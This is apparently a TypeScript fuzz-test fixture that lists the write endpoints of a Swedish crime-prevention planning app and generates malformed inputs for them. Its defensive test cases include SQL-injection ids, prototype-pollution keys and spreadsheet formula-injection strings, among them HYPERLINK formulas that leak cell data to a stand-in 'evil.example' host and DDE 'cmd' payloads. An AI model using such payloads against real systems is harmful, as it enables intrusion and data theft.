// The fuzz suite's table of write endpoints and its bad inputs (test/integration/fuzz*.test.ts).
//
// WRITE_ROUTES has one entry per write route of the app ("METHOD /path" exactly as `hono.routes`
// lists it): who may call it, what its body is, and for a PATCH or POST a valid example body that
// the JSON cases break one field at a time. The suite fails when the app has a write route that is
// not in the table, so a new endpoint cannot go unfuzzed. Every case here is bad input: the app
// must answer it with a 4xx in the error format and leave the database as it was.
//
// Deterministic: fixed lists, and the random cases come from pure-rand with fixed seeds.
import { uniformInt } from "pure-rand/distribution/uniformInt";
import { xoroshiro128plus } from "pure-rand/generator/xoroshiro128plus";
import type { Role } from "../../server/auth/roles.ts";
import { DEFAULT_SETTINGS } from "../../server/coverage/settings.ts";

/** Areas of the fixture (test/fixtures/data): 0.01° squares from 13.20, 13.21, 13.22 E at 55.64 N. */
export const ALFA = "12300001";
export const BETA = "12300002";

export type BodyKind =
  /** A JSON document checked by a zod schema. */
  | "json"
  /** No body is read: only the path (and that garbage bodies do no harm) is fuzzed. */
  | "none"
  /** POST /api/imports/:kind/…: a CSV or GeoJSON file. */
  | "import"
  /** POST /api/area-boundaries/preview: a GeoJSON or zipped Shapefile. */
  | "boundary-file"
  /** POST /api/internal/presence/import: a CSV presence log. */
  | "presence-csv";

export interface RouteSpec {
  role: Role;
  body: BodyKind;
  /** For a path with `:id`: SQL giving the id of a live row, so a bad body meets a real record. */
  idFrom?: string;
  /** SQL that makes the row `idFrom` finds when the fixture has none; run once per app, first. */
  given?: string;
  /** A valid body (for POST) or a valid change (for PATCH); the JSON cases break it. */
  example?: Record<string, unknown>;
  /** The example with its geometry replaced, for endpoints that take a geometry in JSON. */
  withGeometry?: (g: unknown) => Record<string, unknown>;
  /** A query string the route needs, e.g. presence import's dry_run. */
  query?: string;
  /** Why a route is fuzzed differently (see the suite). */
  note?: string;
}

const visitExample = {
  kind: "contact_meeting",
  date: "2019-05-14",
  area_id: ALFA,
  attendees: 3,
  notes: "Träff vid skolan",
};
const walkWith = (route: unknown) => ({
  kind: "safety_walk",
  date: "2019-05-20",
  route,
  participants: ["Polisen"],
  notes: "Kvällsvandring",
});
const presenceExample = {
  starts_at: "2019-06-02T19:30:00Z",
  ends_at: "2019-06-02T20:15:00Z",
  actor: "police",
  kind: "foot",
  place: { type: "Point", coordinates: [13.215, 55.645] },
  notes: "Synlig närvaro",
};
const groupExample = {
  area_id: ALFA,
  name: "Grannar på Ekvägen",
  status: "active",
  households: 14,
  started_on: "2019-02-01",
  contact_name: "Kim",
  contact_phone: "040-123 45",
  contact_email: "kim@example.se",
};
const OPEN_FINDING = `INSERT INTO walk_findings (visit_id, text, owner, due_on)
  SELECT 3, 'Trasig lampa', 'Tekniska förvaltningen', '2019-11-01'
  WHERE NOT EXISTS (SELECT 1 FROM walk_findings WHERE deleted_at IS NULL AND status = 'open')`;
const FINDING_ID =
  "SELECT id FROM walk_findings WHERE deleted_at IS NULL AND status = 'open' ORDER BY id LIMIT 1";
const kitExample = { area_id: ALFA, handed_out_on: "2019-03-01", kits: 4 };
const lagesbildExample = {
  week: "2019-W23",
  date: "2019-06-03",
  participants: ["Polisen", "Kommunen"],
  areas: [{ area_id: ALFA, reason: "Inbrott i villor", bands: [] }],
  notes: "Lugnt",
};
const periodExample = { name: "Löften 2030", starts_on: "2030-01-01", ends_on: "2030-12-31" };
const promiseExample = {
  period_id: 1,
  category: "activity",
  title_sv: "Tre vandringar",
  title_en: "Three walks",
  evidence: "safety_walk",
  target: 3,
};
const progressExample = { date: "2019-03-01", amount: 1, label: "Start", note: "Intern" };
const messageExample = {
  sent_on: "2019-04-01",
  channel: "coyards",
  subject: "Lås dörren",
  area_ids: [ALFA],
};

const PLANNER: Role = "planner";
const POLICE: Role = "police";
const ADMIN: Role = "admin";

/** Every write route of the app: the suite fails on a write route missing here. */
export const WRITE_ROUTES: Record<string, RouteSpec> = {
  "POST /api/auth/login": {
    role: PLANNER,
    body: "json",
    example: { username: "nobody", password: "not-the-password" },
    note: "open to the public; a failed login writes an audit row (audit_log is not compared)",
  },
  "POST /api/auth/logout": {
    role: PLANNER,
    body: "none",
    note: "takes no input; sent with a throwaway session, since it ends the session it is sent with",
  },
  "POST /api/auth/password": {
    role: PLANNER,
    body: "json",
    example: { current_password: "not-the-password", new_password: "a-new-password-1" },
  },
  "POST /api/auth/tokens": {
    role: PLANNER,
    body: "json",
    example: { name: "QGIS på min dator", days: 30 },
  },
  "DELETE /api/auth/tokens/:id": { role: PLANNER, body: "none" },
  "POST /api/area-boundaries/preview": {
    role: PLANNER,
    body: "boundary-file",
    note: "writes nothing; a file with any bad feature is a 400",
  },
  "POST /api/area-boundaries/commit": {
    role: PLANNER,
    body: "json",
    example: { token: "00000000-0000-4000-8000-000000000000", confirm: true },
  },
  "POST /api/visits": {
    role: PLANNER,
    body: "json",
    example: visitExample,
    withGeometry: walkWith,
  },
  "PATCH /api/visits/:id": {
    role: PLANNER,
    body: "json",
    idFrom:
      "SELECT id FROM visits WHERE deleted_at IS NULL ORDER BY kind = 'safety_walk' DESC, id LIMIT 1",
    example: { notes: "Ändrad", attendees: 4 },
    withGeometry: (route) => ({ route }),
  },
  "DELETE /api/visits/:id": { role: PLANNER, body: "none" },
  // The fixture's walks have no findings: one is made on walk 3 (2019-10-01, Alfa) first.
  "PATCH /api/findings/:id": {
    role: PLANNER,
    body: "json",
    given: OPEN_FINDING,
    idFrom: FINDING_ID,
    example: { owner: "Fastighetsägaren", due_on: "2019-12-01" },
  },
  "POST /api/findings/:id/close": {
    role: PLANNER,
    body: "json",
    given: OPEN_FINDING,
    idFrom: FINDING_ID,
    example: { closed_on: "2019-11-05", note: "Lampan bytt" },
  },
  "POST /api/findings/:id/reopen": {
    role: PLANNER,
    body: "none",
    given: OPEN_FINDING,
    idFrom: FINDING_ID,
  },
  "POST /api/watch-groups": { role: PLANNER, body: "json", example: groupExample },
  "PATCH /api/watch-groups/:id": {
    role: PLANNER,
    body: "json",
    idFrom: "SELECT id FROM watch_groups WHERE deleted_at IS NULL LIMIT 1",
    example: { name: "Nytt namn", households: 20 },
  },
  "DELETE /api/watch-groups/:id": { role: PLANNER, body: "none" },
  "POST /api/dna-kits": { role: PLANNER, body: "json", example: kitExample },
  "PATCH /api/dna-kits/:id": {
    role: PLANNER,
    body: "json",
    idFrom: "SELECT id FROM dna_kits WHERE deleted_at IS NULL AND visit_id IS NULL LIMIT 1",
    example: { kits: 7, handed_out_on: "2019-03-02" },
  },
  "DELETE /api/dna-kits/:id": { role: PLANNER, body: "none" },
  "POST /api/imports/:kind/preview": {
    role: PLANNER,
    body: "import",
    note: "writes nothing; a file that can be read but has bad rows is a 200 report listing them",
  },
  "POST /api/imports/:kind/commit": { role: PLANNER, body: "import" },
  "POST /api/internal/presence": {
    role: POLICE,
    body: "json",
    example: presenceExample,
    withGeometry: (coordinatesOrPlace) => ({ ...presenceExample, place: coordinatesOrPlace }),
  },
  "PATCH /api/internal/presence/:id": {
    role: POLICE,
    body: "json",
    idFrom: "SELECT id FROM presence WHERE deleted_at IS NULL LIMIT 1",
    example: { notes: "Ändrad", kind: "car" },
    withGeometry: (place) => ({ place }),
  },
  "DELETE /api/internal/presence/:id": { role: POLICE, body: "none" },
  "POST /api/internal/presence/import": {
    role: POLICE,
    body: "presence-csv",
    query: "?dry_run=0",
  },
  "PUT /api/internal/coverage/settings": {
    role: POLICE,
    body: "json",
    example: { ...DEFAULT_SETTINGS, radius_m: 250 },
  },
  "POST /api/internal/coverage/recompute": {
    role: POLICE,
    body: "none",
    note: "takes no input: rebuilds the totals from the stored presence, which must give the same rows",
  },
  "POST /api/internal/lagesbild": { role: POLICE, body: "json", example: lagesbildExample },
  "PATCH /api/internal/lagesbild/:id": {
    role: POLICE,
    body: "json",
    idFrom: "SELECT id FROM lagesbild WHERE deleted_at IS NULL LIMIT 1",
    example: { notes: "Ändrad" },
  },
  "DELETE /api/internal/lagesbild/:id": { role: POLICE, body: "none" },
  "POST /api/promise-periods": { role: PLANNER, body: "json", example: periodExample },
  "PATCH /api/promise-periods/:id": {
    role: PLANNER,
    body: "json",
    idFrom: "SELECT id FROM promise_periods WHERE deleted_at IS NULL LIMIT 1",
    example: { name: "Nytt namn" },
  },
  "DELETE /api/promise-periods/:id": { role: PLANNER, body: "none" },
  "POST /api/promises": { role: PLANNER, body: "json", example: promiseExample },
  "PATCH /api/promises/:id": {
    role: PLANNER,
    body: "json",
    idFrom: "SELECT id FROM promises WHERE deleted_at IS NULL AND category = 'activity' LIMIT 1",
    example: { title_sv: "Ny titel", target: 5 },
  },
  "DELETE /api/promises/:id": { role: PLANNER, body: "none" },
  "POST /api/promises/:id/progress": {
    role: PLANNER,
    body: "json",
    idFrom: "SELECT id FROM promises WHERE deleted_at IS NULL AND category = 'goal' LIMIT 1",
    example: progressExample,
  },
  "DELETE /api/promises/progress/:id": { role: PLANNER, body: "none" },
  "POST /api/messages": { role: PLANNER, body: "json", example: messageExample },
  "PATCH /api/messages/:id": {
    role: PLANNER,
    body: "json",
    idFrom: "SELECT id FROM messages WHERE deleted_at IS NULL LIMIT 1",
    example: { subject: "Ny rubrik" },
  },
  "DELETE /api/messages/:id": { role: PLANNER, body: "none" },
  "POST /api/admin/accounts": {
    role: ADMIN,
    body: "json",
    example: { username: "ny.planerare", display_name: "Ny planerare", role: "planner" },
  },
  "PATCH /api/admin/accounts/:id": {
    role: ADMIN,
    body: "json",
    idFrom: "SELECT id FROM accounts WHERE username = 'test-police'",
    example: { display_name: "Polisen", role: "police" },
  },
  "POST /api/admin/accounts/:id/reset-password": {
    role: ADMIN,
    body: "none",
    note: "takes no body; a bad id must reset nobody's password",
  },
  "PUT /api/admin/privacy": {
    role: ADMIN,
    body: "json",
    example: { contact_retention_months: 24 },
  },
  "POST /api/admin/privacy/retention/run": {
    role: ADMIN,
    body: "none",
    note: "takes no input: erases what the stored retention setting says, which is nothing in the fixture",
  },
  "POST /api/admin/persons/export": {
    role: ADMIN,
    body: "json",
    example: { name: "Kim Svensson" },
    note: "a read that writes only an audit row",
  },
  "POST /api/admin/persons/erase": {
    role: ADMIN,
    body: "json",
    example: { email: "nobody@example.se" },
  },
};

const WRITE_METHODS = new Set(["POST", "PUT", "PATCH", "DELETE"]);

/** The app's write routes as "METHOD /path", once each (middleware entries are left out). */
export function writeRoutesOf(routes: { method: string; path: string }[]): string[] {
  const keys = routes
    .filter(
      (r) => WRITE_METHODS.has(r.method) && r.path.startsWith("/api/") && !r.path.includes("*"),
    )
    .map((r) => `${r.method} ${r.path}`);
  return [...new Set(keys)];
}

// ---------------------------------------------------------------------------------------------
// Cases

export interface Case {
  name: string;
  body?: string | Uint8Array;
  type?: string;
  /** Expected in the error's message or fields (the field named, or the reason), when known. */
  mentions?: RegExp;
  /** Expected status, when one is specific (413 for a large body). */
  status?: number;
}

const JSON_TYPE = "application/json";
const json = (name: string, body: string, extra: Partial<Case> = {}): Case => ({
  name,
  body,
  type: JSON_TYPE,
  ...extra,
});

/** Replaces the value of `key` in the example by raw JSON text (e.g. 1e400, which JSON.stringify cannot write). */
function withRaw(example: Record<string, unknown>, key: string, raw: string): string {
  return JSON.stringify({ ...example, [key]: "\u0000RAW\u0000" }).replace(
    '"\\u0000RAW\\u0000"',
    raw,
  );
}

/** A long text with what breaks naive code: NUL, a lone surrogate, RTL marks, quotes, newlines. */
export function nastyString(length: number): string {
  const piece = "a'\";\u0000\ud800\u202e<script>\r\n=1+1 ";
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
}

/** Deeply nested JSON text: arrays or objects, `depth` levels. */
export function deep(depth: number, kind: "array" | "object"): string {
  return kind === "array"
    ? `${"[".repeat(depth)}1${"]".repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
}

/** Values no field of any schema accepts: they are neither numbers, booleans nor short strings. */
const INVALID_FOR_ANY_FIELD: [string, unknown][] = [
  ["a 100 000-character string", nastyString(100_000)],
  ["an object with a stray key", { $where: "1 == 1" }],
  ["a nested array", [[["x"]]]],
];

/** The JSON cases every JSON endpoint gets, generic and from its example body. */
export function jsonCases(example: Record<string, unknown> | undefined): Case[] {
  const base = example ?? {};
  const text = JSON.stringify(base);
  const cases: Case[] = [
    json("an empty body", ""),
    json("truncated JSON", text.slice(0, Math.max(1, Math.floor(text.length / 2)))),
    json("JSON with a trailing comma", `${text.slice(0, -1)},}`),
    json("NaN, which JSON does not have", '{"x": NaN}'),
    json("null", "null"),
    json("an array instead of an object", JSON.stringify([base])),
    json("a number", "42"),
    json("a string", '"hello"'),
    json("true", "true"),
    json("arrays nested 100 000 deep", deep(100_000, "array")),
    json("objects nested 50 000 deep", deep(50_000, "object")),
    json(
      "a __proto__ key",
      `{"__proto__":{"polluted":"yes","role":"admin"}${text === "{}" ? "" : `,${text.slice(1, -1)}`}}`,
    ),
    json(
      "a constructor.prototype key",
      JSON.stringify({ ...base, constructor: { prototype: { polluted: "yes" } } }),
    ),
    json("an unknown field", JSON.stringify({ ...base, colour: "red" }), { mentions: /colour/ }),
    json("a body of more than 1 MB", JSON.stringify({ ...base, filler: "x".repeat(1_100_000) }), {
      status: 413,
    }),
    { name: "UTF-16 JSON", body: utf16(text), type: JSON_TYPE },
    {
      name: "invalid UTF-8 in a key",
      body: bytes([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
      type: JSON_TYPE,
    },
    {
      name: "form-encoded instead of JSON",
      body: "a=1&b=2",
      type: "application/x-www-form-urlencoded",
    },
    { name: "JSON sent as text/plain with garbage", body: "{{{", type: "text/plain" },
  ];
  for (const [key, value] of Object.entries(base)) {
    for (const [what, bad] of INVALID_FOR_ANY_FIELD) {
      cases.push(
        json(`${key} as ${what}`, JSON.stringify({ ...base, [key]: bad }), {
          mentions: new RegExp(key),
        }),
      );
    }
    if (typeof value === "number") {
      cases.push(
        json(`${key} as a string`, JSON.stringify({ ...base, [key]: String(value) }), {
          mentions: new RegExp(key),
        }),
      );
      cases.push(
        json(`${key} as 1e400 (Infinity)`, withRaw(base, key, "1e400"), {
          mentions: new RegExp(key),
        }),
      );
    }
    if (typeof value === "string" && value.length > 0) {
      cases.push(
        json(`${key} as a number`, JSON.stringify({ ...base, [key]: 12 }), {
          mentions: new RegExp(key),
        }),
      );
    }
  }
  return cases;
}

/** Seeded random breakage of the example: 1–3 fields replaced by random invalid values. */
export function randomJsonCases(
  example: Record<string, unknown> | undefined,
  seed: number,
  n: number,
): Case[] {
  const gen = xoroshiro128plus(seed);
  const int = (a: number, b: number) => uniformInt(gen, a, b);
  const keys = Object.keys(example ?? {});
  const randomText = (len: number) =>
    String.fromCharCode(...Array.from({ length: len }, () => int(0, 0xffff)));
  const invalid = (depth: number): unknown => {
    switch (int(0, 3)) {
      case 0:
        return randomText(int(5001, 20_000));
      case 1:
        return Object.fromEntries(
          Array.from({ length: int(1, 4) }, () => [
            `\u0000${randomText(int(1, 8))}`,
            depth > 0 ? invalid(depth - 1) : int(-9, 9),
          ]),
        );
      case 2:
        return [depth > 0 ? [invalid(depth - 1)] : [[randomText(3)]]];
      default:
        return { type: randomText(int(0, 12)), coordinates: [[randomText(2)]] };
    }
  };
  return Array.from({ length: n }, (_, i) => {
    const body: Record<string, unknown> = { ...example };
    const broken =
      keys.length === 0
        ? [`\u0000k${i}`]
        : Array.from({ length: int(1, 3) }, () => keys[int(0, keys.length - 1)] as string);
    for (const k of broken) body[k] = invalid(int(0, 3));
    return json(`random #${i} (breaks ${[...new Set(broken)].join(", ")})`, JSON.stringify(body));
  });
}

/** Ids that name no record, or that lenient parsing would turn into one (" 1", "1e0", "01"). */
export const BAD_IDS = [
  "abc",
  "0",
  "01",
  "-1",
  "1.5",
  "1e0",
  "0x1",
  "%201",
  "1%20",
  "99999999999999999999999",
  "1%00",
  "1;DROP%20TABLE%20visits",
  "'%20OR%20'1'='1",
  "%F0%9F%92%A9",
  "%E2%80%AE1",
];

// ---------------------------------------------------------------------------------------------
// Geometry

const sq = (x: number, y: number, d: number) => [
  [x, y],
  [x + d, y],
  [x + d, y + d],
  [x, y + d],
  [x, y],
];

export interface GeometryCase {
  name: string;
  geometry: unknown;
  mentions?: RegExp;
}

/** A long line inside Alfa: `n` positions. */
export const longLine = (n: number) =>
  Array.from({ length: n }, (_, i) => [
    13.201 + (i % 800) * 0.00001,
    55.641 + Math.floor(i / 800) * 0.00001,
  ]);

/** Bad lines and points for the JSON endpoints that take a route or a point. */
export function lineCases(): GeometryCase[] {
  const line = (coordinates: unknown) => ({ type: "LineString", coordinates });
  return [
    {
      name: "SWEREF 99 TM metres as WGS 84",
      geometry: line([
        [387_000, 6_165_000],
        [387_100, 6_165_100],
      ]),
      mentions: /SWEREF 99 TM/,
    },
    {
      name: "longitude out of range",
      geometry: line([
        [200, 55.64],
        [13.2, 55.64],
      ]),
      mentions: /longitude/,
    },
    {
      name: "latitude out of range",
      geometry: line([
        [13.2, 95],
        [13.2, 55.64],
      ]),
      mentions: /latitude/,
    },
    {
      name: "lat, lon swapped out of range",
      geometry: line([
        [55.64, 113.2],
        [55.65, 113.21],
      ]),
      mentions: /\[lat, lon\]/,
    },
    { name: "one position", geometry: line([[13.2, 55.64]]), mentions: /at least two/ },
    { name: "no positions", geometry: line([]) },
    {
      name: "a route over the per-route limit (10 001 positions)",
      geometry: line(longLine(10_001)),
      mentions: /at most/,
    },
    {
      name: "a huge route (100 000 positions, over 1 MB)",
      geometry: line(longLine(100_000)),
      mentions: /at most/,
    },
    {
      name: "coordinates as strings",
      geometry: line([
        ["13.2", "55.64"],
        ["13.3", "55.65"],
      ]),
    },
    { name: "null coordinates", geometry: line(null) },
    { name: "positions nested too deep", geometry: line([[[13.2, 55.64]], [[13.3, 55.65]]]) },
    {
      name: "a polygon (self-intersecting bowtie)",
      geometry: {
        type: "Polygon",
        coordinates: [
          [
            [13.2, 55.64],
            [13.21, 55.65],
            [13.21, 55.64],
            [13.2, 55.65],
            [13.2, 55.64],
          ],
        ],
      },
    },
    {
      name: "a FeatureCollection instead of a geometry",
      geometry: { type: "FeatureCollection", features: [] },
    },
    {
      name: "a geometry with an extra member",
      geometry: {
        ...line([
          [13.2, 55.64],
          [13.21, 55.64],
        ]),
        bbox: [0, 0, 1, 1],
      },
    },
  ];
}

/** Bad presence places: the lines as `place`, and points. */
export function placeCases(): GeometryCase[] {
  const point = (coordinates: unknown) => ({ type: "Point", coordinates });
  return [
    ...lineCases(),
    {
      name: "a SWEREF point as WGS 84",
      geometry: point([387_000, 6_165_000]),
      mentions: /SWEREF 99 TM/,
    },
    { name: "a point out of range", geometry: point([13.2, -100]), mentions: /latitude/ },
    { name: "a 3D point", geometry: point([13.2, 55.64, 12]) },
    { name: "an Area without area_id", geometry: { type: "Area" } },
    { name: "an Area with a huge id", geometry: { type: "Area", area_id: "9".repeat(10_000) } },
  ];
}

/** A GeoJSON FeatureCollection text. */
export const collectionOf = (features: unknown[], extra: Record<string, unknown> = {}) =>
  JSON.stringify({ type: "FeatureCollection", ...extra, features });
export const featureOf = (properties: Record<string, unknown>, geometry: unknown) => ({
  type: "Feature",
  properties,
  geometry,
});
const CRS84 = { crs: { type: "name", properties: { name: "urn:ogc:def:crs:OGC:1.3:CRS84" } } };

/** Boundary files (POST /api/area-boundaries/preview) that must be refused. */
export function boundaryCases(): Case[] {
  const geo = (name: string, body: string, mentions?: RegExp): Case => ({
    name,
    body,
    type: "application/geo+json",
    ...(mentions ? { mentions } : {}),
  });
  const poly = (ring: unknown[][]) => ({ type: "Polygon", coordinates: [ring] });
  const f = (geometry: unknown, id = ALFA) => featureOf({ id, name: "Alfa" }, geometry);
  const huge = Array.from({ length: 12_000 }, (_, i) => {
    const a = (2 * Math.PI * i) / 12_000;
    return [13.205 + 0.004 * Math.cos(a), 55.645 + 0.004 * Math.sin(a)];
  });
  huge.push(huge[0] as number[]);
  const manyBig = Array.from({ length: 6 }, (_, k) => {
    const ring = Array.from({ length: 9_000 }, (_, i) => {
      const a = (2 * Math.PI * i) / 9_000;
      return [13.2 + k * 0.01 + 0.004 * Math.cos(a), 55.645 + 0.004 * Math.sin(a)];
    });
    ring.push(ring[0] as number[]);
    return f(poly(ring), `1230000${k + 1}`);
  });
  return [
    geo(
      "a self-intersecting polygon (bowtie)",
      collectionOf([
        f(
          poly([
            [13.2, 55.64],
            [13.21, 55.65],
            [13.21, 55.64],
            [13.2, 55.65],
            [13.2, 55.64],
          ]),
        ),
      ]),
      /crosses itself/,
    ),
    geo("coordinates out of range", collectionOf([f(poly(sq(500, 55.64, 0.01)))])),
    geo(
      "SWEREF 99 TM labelled as WGS 84",
      collectionOf([f(poly(sq(387_000, 6_165_000, 500)))], CRS84),
      /SWEREF 99 TM/,
    ),
    geo(
      "lat, lon swapped",
      collectionOf([f(poly(sq(55.64, 13.2, 0.01).map(([x, y]) => [x as number, y as number])))]),
      /swap/,
    ),
    geo("a polygon of more than 10 000 vertices", collectionOf([f(poly(huge))]), /vertices/),
    geo("a file of more than 50 000 vertices", collectionOf(manyBig), /vertices/),
    geo(
      "an unclosed ring",
      collectionOf([f(poly(sq(13.2, 55.64, 0.01).slice(0, 4)))]),
      /closed|fewer than 4/,
    ),
    geo(
      "a point instead of a polygon",
      collectionOf([f({ type: "Point", coordinates: [13.2, 55.64] })]),
      /Polygon/,
    ),
    geo("a feature without geometry", collectionOf([f(null)])),
    geo("not a FeatureCollection", JSON.stringify({ type: "GeometryCollection", geometries: [] })),
    geo("an empty FeatureCollection", collectionOf([])),
    geo("truncated GeoJSON", collectionOf([f(poly(sq(13.2, 55.64, 0.01)))]).slice(0, 60)),
    geo("arrays nested 100 000 deep", deep(100_000, "array")),
    geo(
      "coordinates as strings",
      collectionOf([f(poly(sq(13.2, 55.64, 0.01).map(([x, y]) => [String(x), String(y)])))]),
    ),
    geo(
      "a crs this app does not know",
      collectionOf([f(poly(sq(13.2, 55.64, 0.01)))], {
        crs: { type: "name", properties: { name: "EPSG:2400" } },
      }),
    ),
    {
      name: "zip garbage",
      body: bytes([0x50, 0x4b, 0x03, 0x04, 1, 2, 3, 4, 5, 6, 7, 8]),
      type: "application/zip",
    },
    { name: "CSV sent as a boundary file", body: "id;name\n1;x\n", type: "text/csv" },
    { name: "an empty body", body: "", type: "application/geo+json" },
  ];
}

/** GeoJSON place files for the visits import that must be refused (commit) or reported (preview). */
export function importGeoJsonCases(): Case[] {
  const geo = (name: string, body: string, mentions?: RegExp): Case => ({
    name,
    body,
    type: "application/geo+json",
    ...(mentions ? { mentions } : {}),
  });
  const visit = { typ: "contact_meeting", datum: "2019-05-14" };
  const point = (x: number, y: number) => ({ type: "Point", coordinates: [x, y] });
  return [
    geo(
      "SWEREF 99 TM points labelled as WGS 84",
      collectionOf([featureOf(visit, point(387_000, 6_165_000))], CRS84),
      /SWEREF 99 TM/,
    ),
    geo("coordinates out of range for any CRS", collectionOf([featureOf(visit, point(500, 95))])),
    geo(
      "a self-intersecting polygon",
      collectionOf([
        featureOf(visit, {
          type: "Polygon",
          coordinates: [
            [
              [13.2, 55.64],
              [13.21, 55.65],
              [13.21, 55.64],
              [13.2, 55.65],
              [13.2, 55.64],
            ],
          ],
        }),
      ]),
      /Polygon/,
    ),
    geo(
      "a wrongly wound polygon",
      collectionOf([
        featureOf(visit, { type: "Polygon", coordinates: [sq(13.2, 55.64, 0.005).reverse()] }),
      ]),
      /Polygon/,
    ),
    geo(
      "a huge route (30 × 10 000 positions)",
      collectionOf(
        Array.from({ length: 30 }, () =>
          featureOf(
            { ...visit, typ: "safety_walk" },
            { type: "LineString", coordinates: longLine(10_000) },
          ),
        ),
      ),
      /positions/,
    ),
    geo(
      "a route over the per-route limit",
      collectionOf([
        featureOf(
          { ...visit, typ: "safety_walk" },
          { type: "LineString", coordinates: longLine(10_001) },
        ),
      ]),
    ),
    geo("a feature that is a string", collectionOf(["Feature"])),
    geo(
      "formula strings in a bad feature",
      collectionOf([
        featureOf(
          { ...visit, anteckningar: '=HYPERLINK("http://evil","x")', datum: "+cmd|' /C calc'!A0" },
          point(13.205, 55.645),
        ),
      ]),
    ),
    geo(
      "a __proto__ property",
      `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"__proto__":{"polluted":"yes"},"typ":"contact_meeting"},"geometry":null}]}`,
    ),
    geo("truncated GeoJSON", collectionOf([featureOf(visit, point(13.2, 55.64))]).slice(0, 50)),
  ];
}

// ---------------------------------------------------------------------------------------------
// CSV

export const bytes = (xs: number[]) => new Uint8Array(xs);
export const utf16 = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le"));
export const latin1 = (text: string) => new Uint8Array(Buffer.from(text, "latin1"));

/** A valid header and row of each CSV import, to build bad files from. */
export const CSV_ROWS: Record<string, { header: string; row: (i: number) => string }> = {
  visits: {
    header: "typ;datum;område;anteckningar",
    row: (i) =>
      `contact_meeting;2019-05-${String((i % 28) + 1).padStart(2, "0")};${ALFA};träff ${i}`,
  },
  "watch-groups": {
    header: "område;namn;status;hushåll;startdatum",
    row: (i) => `${ALFA};Grupp ${i};active;${(i % 50) + 1};2019-01-01`,
  },
  "dna-kits": {
    header: "område;datum;antal",
    row: (i) => `${ALFA};2019-03-${String((i % 28) + 1).padStart(2, "0")};${(i % 9) + 1}`,
  },
  presence: {
    header: "starts_at,ends_at,actor,kind,area_id,notes",
    row: (i) => {
      const day = new Date(Date.UTC(2019, 0, 1) + i * 3_600_000);
      const end = new Date(day.getTime() + 1_800_000);
      const fmt = (d: Date) => d.toISOString().replace(/\.000Z$/, "Z");
      return `${fmt(day)},${fmt(end)},police,foot,${ALFA},rad ${i}`;
    },
  },
};

export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

/** Bad CSV files for an import kind ("visits", "watch-groups", "dna-kits" or "presence"). */
export function csvCases(kind: string): Case[] {
  const { header, row } = CSV_ROWS[kind] as (typeof CSV_ROWS)[string];
  const sep = kind === "presence" ? "," : ";";
  const type = "text/csv";
  const csv = (name: string, body: string | Uint8Array, mentions?: RegExp): Case => ({
    name,
    body,
    type,
    ...(mentions ? { mentions } : {}),
  });
  const good = (n: number) => Array.from({ length: n }, (_, i) => row(i));
  const cols = header.split(sep);
  const badArea = (r: string) => r.replace(ALFA, "Ingenstans");
  const formulaRows = FORMULAS.map((f, i) => {
    const cells = row(i).split(sep);
    cells[cells.length - 1] = `"${f.replace(/"/g, '""')}"`;
    if (i === 0) cells[0] = f.startsWith("=") ? `"${f.replace(/"/g, '""')}"` : f; // one bad cell makes the file bad
    return cells.join(sep);
  });
  const withBadLast = (n: number) => `${header}\n${good(n - 1).join("\n")}\n${badArea(row(n))}\n`;
  return [
    csv("an empty file", ""),
    csv("a header only", `${header}\n`),
    csv(
      "a missing required column",
      `${cols.slice(1).join(sep)}\n${row(0).split(sep).slice(1).join(sep)}\n`,
      /missing/,
    ),
    csv("an unknown extra column", `${header}${sep}färg\n${row(0)}${sep}röd\n`, /färg|unknown/),
    csv("a row with extra cells", `${header}\n${row(0)}${sep}extra${sep}mer\n`),
    csv("a row with missing cells", `${header}\n${row(0).split(sep).slice(0, 2).join(sep)}\n`),
    csv("an unterminated quote", `${header}\n"${row(0)}\n`),
    csv(
      "Latin-1 bytes with a bad row",
      latin1(`${header}\n${badArea(row(0)).replace("Ingenstans", "Ödegården")}\n`),
      /Ödegården|not one of|no area|is not/,
    ),
    csv("UTF-16 with BOM", utf16(`${header}\n${row(0)}\n`)),
    csv("NUL bytes and binary garbage", randomBytes(7, 4096)),
    csv("formula strings in a file with a bad cell", `${header}\n${formulaRows.join("\n")}\n`),
    csv("a 100 000-character cell", `${header}\n${badArea(row(0))}${"x".repeat(100_000)}\n`),
    csv(
      `${kind === "presence" ? "50 000" : "100 000"} rows with one bad row at the end`,
      withBadLast(kind === "presence" ? 50_000 : 100_000),
      kind === "presence" ? /line 50001/ : /100001|1 row/,
    ),
    ...(kind === "presence"
      ? [csv("100 000 rows: more than a presence import takes", withBadLast(100_000), /5 MB|rows/)]
      : []),
    csv("JSON sent as CSV", '[{"a":1}]'),
    ...(kind === "visits"
      ? [
          csv(
            "SWEREF 99 TM in the lon and lat columns",
            "typ;datum;lon;lat\ncontact_meeting;2019-05-14;387000;6165000\n",
            /SWEREF 99 TM/,
          ),
        ]
      : []),
    ...(kind === "presence"
      ? [
          csv(
            "SWEREF 99 TM in the lon and lat columns",
            "starts_at,ends_at,actor,kind,lon,lat\n2019-06-02T19:30:00Z,2019-06-02T20:00:00Z,police,foot,387000,6165000\n",
            /SWEREF 99 TM/,
          ),
        ]
      : []),
  ];
}

/** `n` seeded random bytes. */
export function randomBytes(seed: number, n: number): Uint8Array {
  const gen = xoroshiro128plus(seed);
  return Uint8Array.from({ length: n }, () => uniformInt(gen, 0, 255));
}
